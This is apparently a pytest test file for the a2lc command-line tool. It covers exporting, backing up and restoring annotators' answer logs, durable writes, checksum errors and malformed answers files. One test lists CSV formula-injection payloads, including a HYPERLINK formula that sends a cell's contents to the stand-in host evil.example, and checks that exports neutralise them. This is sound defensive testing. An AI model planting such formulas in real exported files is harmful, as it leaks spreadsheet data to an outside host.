"""People's answers (issue 8): durable before the command reports success, counted per round by
``a2lc status``, and exported for backup by ``a2lc export-answers`` (every row of every round's
append-only log, replaced answers included), a backup that restores a lost log."""

from __future__ import annotations

import csv
import io
import json
import os

import h5py
import numpy as np
import pytest

from a2lc_cli.state import read_query
from support import crafted_workspace, touch_model, write_workspace

NAMES = ["c0", "c1", "c2"]


def _case():
    """Two 8×8 images of four 4×4 masks each (ids 0–3, 4–7) and a model that ranks them by hand."""
    seg = np.kron(np.arange(4, dtype=np.int32).reshape(2, 2), np.ones((4, 4), np.int32))
    lab = np.zeros((8, 8), np.uint8)
    gts = [np.kron(np.array([[0, 1], [2, 0]], np.uint8), np.ones((4, 4), np.uint8)),
           np.kron(np.array([[1, 1], [0, 2]], np.uint8), np.ones((4, 4), np.uint8))]
    probs = []
    for i in range(2):
        p = np.zeros((3, 8, 8))
        for q, conf in enumerate([0.9, 0.5, 0.7, 0.4] if i == 0 else [0.6, 0.35, 0.8, 0.45]):
            y, x = divmod(q, 2)
            p[:, 4 * y:4 * y + 4, 4 * x:4 * x + 4] = np.array([conf, (1 - conf) / 2, (1 - conf) / 2])[:, None, None]
        probs.append(p)
    return [seg, seg], [lab, lab], gts, probs


def _write_answers(path, rows):
    with open(path, "w", newline="") as f:
        w = csv.writer(f)
        w.writerow(["mask_id", "answer", "annotator", "seconds"])
        w.writerows(rows)
    return path


@pytest.fixture
def crafted(tmp_path):
    """The crafted workspace and the fakes its stages are given (the ``cli`` fixture passes them)."""
    return crafted_workspace(tmp_path / "ws", *_case())


@pytest.fixture
def ws(crafted, tmp_path, cli):
    """Round 1: 4 masks selected, 4 answers by ana and bo, then one replaced by cy; round 2: 2 more answers."""
    ws = crafted[0]
    run = lambda *a: cli("-q", "-w", ws.root, *a)  # noqa: E731
    assert run("acquire", "--r", 1)[0] == 0
    assert run("query", "--r", 1, "--annotator", "human", "--budget", 4)[0] == 0
    sel = read_query(ws.artifact(1, "query.h5")).selected.tolist()
    first = _write_answers(tmp_path / "r1.csv", [[m, NAMES[k % 3], "ana" if k % 2 else "bo", 2.5 + k]
                                                 for k, m in enumerate(sel)])
    assert run("query", "--r", 1, "--answers", first)[0] == 0
    again = _write_answers(tmp_path / "r1b.csv", [[sel[0], "void", "cy|mixed", 7]])
    assert run("query", "--r", 1, "--answers", again, "--replace")[0] == 0
    touch_model(ws, 1)
    assert run("acquire", "--r", 2)[0] == 0
    assert run("query", "--r", 2, "--annotator", "human", "--budget", 2)[0] == 0
    sel2 = read_query(ws.artifact(2, "query.h5")).selected.tolist()
    assert run("query", "--r", 2, "--answers", _write_answers(tmp_path / "r2.csv", [[m, "c2", "ana", ""] for m in sel2]))[0] == 0
    return ws


def _csv_rows(text):
    return list(csv.DictReader(io.StringIO(text)))


def test_export_holds_every_row_of_every_round_and_status_counts_them(ws, cli, tmp_path):
    out = tmp_path / "backup" / "answers.csv"
    code, stdout, err = cli("-w", ws.root, "export-answers", "--out", out)
    assert code == 0, err
    assert "exported 7 answers" in stdout and "r1: 5, r2: 2" in stdout
    rows = _csv_rows(out.read_text())
    code, printed, _ = cli("-w", ws.root, "export-answers")  # the same CSV on stdout
    assert code == 0 and printed == out.read_text()
    assert len(rows) == 7
    from a2lc_cli.state import Dataset

    with Dataset(ws.dataset_path) as ds:
        at = 0
        for r in (1, 2):
            log = read_query(ws.artifact(r, "query.h5")).answers
            for j in range(len(log)):
                row = rows[at]
                at += 1
                m = int(log.mask[j])
                assert (int(row["round"]), int(row["row"]), int(row["mask_id"])) == (r, j, m)
                assert row["image"] == ds.names[int(ds.mask_image[m])]
                assert row["answer"] == ds.classes.name(int(log.label[j])) and int(row["answer_index"]) == log.label[j]
                assert row["annotator"] == log.annotator[j] and row["unit"] == "mask"
                assert float(row["time"]) == log.time[j]  # exact: repr of the stored float64
                assert (row["seconds"] == "" and np.isnan(log.seconds[j])) or float(row["seconds"]) == log.seconds[j]
    r1 = [row for row in rows if row["round"] == "1"]
    assert [row["current"] for row in r1] == ["0", "1", "1", "1", "1"]  # the first answer was replaced ...
    assert r1[4]["mask_id"] == r1[0]["mask_id"] and r1[4]["answer"] == "void" and r1[4]["annotator"] == "cy|mixed"
    code, st, err = cli("-w", ws.root, "status", "--json")
    assert code == 0, err
    rounds = {e["round"]: e for e in json.loads(st)["rounds"]}
    assert (rounds[1]["answers"], rounds[1]["selected"]) == (4, 4)  # ... so 4 masks hold answers
    assert (rounds[2]["answers"], rounds[2]["selected"]) == (2, 2)


def test_the_backup_restores_a_lost_answer_log(ws, cli, tmp_path):
    backup = tmp_path / "r1-backup.csv"
    assert cli("-w", ws.root, "export-answers", "--r", 1, "--current", "--out", backup)[0] == 0
    lost = read_query(ws.artifact(1, "query.h5"))
    os.remove(ws.artifact(1, "query.h5"))
    assert cli("-q", "-w", ws.root, "query", "--r", 1, "--annotator", "human", "--budget", 4)[0] == 0
    code, _, err = cli("-q", "-w", ws.root, "query", "--r", 1, "--answers", backup)
    assert code == 0, err
    back = read_query(ws.artifact(1, "query.h5"))
    assert np.array_equal(back.selected, lost.selected)
    for got, want in zip(back.answers.effective(), lost.answers.effective()):
        assert np.array_equal(got, want)
    want = {int(m): (a, s) for m, a, s in zip(lost.answers.mask, lost.answers.annotator, lost.answers.seconds)}
    for m, a, s in zip(back.answers.mask, back.answers.annotator, back.answers.seconds):
        assert want[int(m)] == (a, s)  # the latest answer of each mask, with who gave it and how long it took


def test_an_import_is_fsynced_and_renamed_before_the_command_succeeds(ws, cli, tmp_path, monkeypatch):
    events = []
    real_fsync, real_replace = os.fsync, os.replace

    def fsync(fd):
        events.append(("fsync", os.readlink(f"/proc/self/fd/{fd}")))
        return real_fsync(fd)

    def replace(src, dst, **kw):
        events.append(("replace", str(src), str(dst)))
        return real_replace(src, dst, **kw)

    monkeypatch.setattr(os, "fsync", fsync)
    monkeypatch.setattr(os, "replace", replace)
    sel = read_query(ws.artifact(2, "query.h5")).selected.tolist()
    ans = _write_answers(tmp_path / "more.csv", [[sel[0], "c0", "dee", 1]])
    code, _, err = cli("-q", "-w", ws.root, "query", "--r", 2, "--answers", ans, "--replace")
    monkeypatch.undo()
    assert code == 0, err
    qp = str(ws.artifact(2, "query.h5"))
    i = next(k for k, e in enumerate(events) if e[0] == "replace" and e[2] == qp)
    tmp = events[i][1]
    assert ("fsync", tmp) in events[:i]  # the new file's contents are on disk before it is published ...
    assert ("fsync", str(ws.artifact(2, "query.h5").parent)) in events[i + 1:]  # ... and so is the rename
    assert read_query(ws.artifact(2, "query.h5")).answers.annotator.tolist()[-1] == "dee"


def test_a_damaged_log_is_an_error_not_a_partial_backup(ws, cli, tmp_path):
    with h5py.File(ws.artifact(1, "query.h5"), "r+") as f:
        f["answers/label"][0] = 1  # changed behind a2lc's back: the checksum no longer matches
    out = tmp_path / "b.csv"
    code, _, err = cli("-w", ws.root, "export-answers", "--out", out)
    assert code != 0 and "Traceback" not in err and len(err.strip().splitlines()) == 1
    assert err.startswith("error: ") and "checksum" in err and "query.h5" in err
    assert not out.exists()
    code, _, err = cli("-w", ws.root, "status")
    assert code == 2 and "checksum" in err


def test_no_answers_yet_gives_a_header_only(tmp_path, cli):
    segs, labs, gts, _ = _case()
    ws, _ = write_workspace(tmp_path / "ws", num_classes=3, segments=segs, labels0=labs, gts=gts)
    code, out, err = cli("-w", ws.root, "export-answers")
    assert code == 0, err
    assert out.strip() == "round,row,mask_id,image,answer,answer_index,unit,annotator,seconds,time,time_iso,current"


EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "-2+3", "@SUM(A1)", "+1+2"]  # one per selected mask


def test_formula_like_names_are_exported_as_text_and_read_back_exactly(ws, cli, tmp_path):
    """CSV formula injection (issue 15): an annotator name starting with = + - @ is written with a
    leading ' (a spreadsheet shows it as text, never runs it); a2lc reads its own export back unchanged."""
    cli("-q", "-w", ws.root, "query", "--r", 1, "--annotator", "human", "--budget", 4)
    sel = read_query(ws.artifact(1, "query.h5")).selected.tolist()
    evil = _write_answers(tmp_path / "evil.csv", [[m, "void" if k else "c2", EVIL[k], 3]
                                                         for k, m in enumerate(sel)])  # each differs from the fixture's
    code, _, err = cli("-q", "-w", ws.root, "query", "--r", 1, "--answers", evil, "--replace")
    assert code == 0, err
    backup = tmp_path / "evil-backup.csv"
    assert cli("-w", ws.root, "export-answers", "--r", 1, "--current", "--out", backup)[0] == 0
    cells = [c for row in csv.reader(io.StringIO(backup.read_text())) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not c[1:].replace(".", "").isdigit())]
    exported = {r["annotator"] for r in _csv_rows(backup.read_text())}
    assert exported >= {"'" + e for e in EVIL}
    lost = read_query(ws.artifact(1, "query.h5"))
    os.remove(ws.artifact(1, "query.h5"))
    assert cli("-q", "-w", ws.root, "query", "--r", 1, "--annotator", "human", "--budget", 4)[0] == 0
    code, _, err = cli("-q", "-w", ws.root, "query", "--r", 1, "--answers", backup)
    assert code == 0, err
    back = read_query(ws.artifact(1, "query.h5")).answers
    want = {int(m): a for m, a in zip(lost.answers.mask, lost.answers.annotator)}
    assert {int(m): a for m, a in zip(back.mask, back.annotator)} == {m: want[m] for m in map(int, back.mask)}
    assert set(back.annotator) == set(EVIL)


def test_csv_cells_escape_and_unescape():
    from a2lc_cli.csvio import escape_cell, unescape_cell

    for text in EVIL + ["'=quoted", "\tx", "\rx", "'", "''", "plain", "-1.5", "+3", "", "'x"]:
        assert unescape_cell(escape_cell(text)) == text
    assert escape_cell("-1.5") == "-1.5" and escape_cell(-3) == -3 and escape_cell("=1") == "'=1"
    assert escape_cell("'x") == "''x" and unescape_cell("'x") == "'x"  # a hand-typed leading quote stays


@pytest.mark.parametrize("name, text, needle", [
    ("dup.csv", "mask_id,answer,answer\n1,c0,c1\n", r"dup.csv: line 1: column 'answer' appears twice in the header"),
    ("open.csv", 'mask_id,answer\n1,c0\n2,"c1\n3,c2\n', r"open.csv: not a valid CSV file \(line 3: a quoted field is never closed\)"),
    ("dup.json", '{"masks": [\n {"mask_id": 1, "answer": "c0"},\n {"mask_id": 2,\n  "answer": "c0",\n  "answer": "c1"}]}',
     r"dup.json: key 'answer' appears twice in one object \(line 5\)"),
    ("dup2.json", '[{"mask_id": 1, "mask_id": 2, "answer": "c0"}]', r"dup2.json: key 'mask_id' appears twice in one object \(line 1\)"),
])
def test_ambiguous_answers_files_are_one_line_errors(tmp_path, name, text, needle):
    """Issue 15: a duplicated CSV column or JSON key, or a quote never closed, was read silently
    (the last column/key won; the open quote swallowed the rest of the file)."""
    from a2lc_cli.annotator import parse_answers_file
    from a2lc_cli.data.base import ClassInfo, default_palette
    from a2lc_cli.errors import A2LCError

    path = tmp_path / name
    path.write_text(text)
    with pytest.raises(A2LCError, match=needle) as e:
        parse_answers_file(path, ClassInfo(tuple(NAMES), default_palette(3)), np.array([1, 2, 3]))
    assert "\n" not in str(e.value)


@pytest.mark.parametrize("what, needle", [("fifo", "is a FIFO (named pipe), not a file"), ("folder", "is a folder, not a file"),
                                          ("device", "is a device, not a file"), ("missing", "does not exist")])
def test_an_answers_path_that_is_not_a_file_says_what_it_is(tmp_path, what, needle):
    from a2lc_cli.annotator import parse_answers_file
    from a2lc_cli.data.base import ClassInfo, default_palette
    from a2lc_cli.errors import A2LCError

    path = tmp_path / "answers.csv"
    if what == "fifo":
        os.mkfifo(path)
    elif what == "folder":
        path.mkdir()
    elif what == "device":
        os.symlink("/dev/zero", path)
    with pytest.raises(A2LCError, match=f"answers file {path} {needle}".replace("(", r"\(").replace(")", r"\)")):
        parse_answers_file(path, ClassInfo(tuple(NAMES), default_palette(3)), np.array([1]))
